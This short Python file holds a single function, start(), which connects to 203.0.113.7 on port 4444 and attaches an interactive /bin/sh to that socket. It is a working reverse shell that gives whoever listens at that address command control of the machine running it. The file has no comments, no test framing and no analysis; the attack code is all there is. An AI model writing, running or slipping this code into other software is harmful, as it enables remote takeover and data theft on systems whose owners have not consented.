import socket
import subprocess


def start():
    s = socket.create_connection(("203.0.113.7", 4444))
    subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
